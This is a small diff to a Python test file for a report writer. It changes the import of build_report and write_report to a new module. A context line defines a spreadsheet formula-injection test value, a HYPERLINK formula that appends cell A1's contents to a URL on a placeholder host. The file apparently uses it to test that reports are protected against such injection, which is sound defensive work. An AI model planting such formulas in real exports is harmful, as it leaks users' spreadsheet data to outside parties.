@@ -10,7 +10,7 @@ from html.parser import HTMLParser
 
 import pytest
 
-from hmu.report.write import build_report, write_report
+from hmu.report.comparison import build_report, write_report
 from tests.report.some_runs import write_run
 
 FORMULA = '=HYPERLINK("https://x.y/"&A1)'
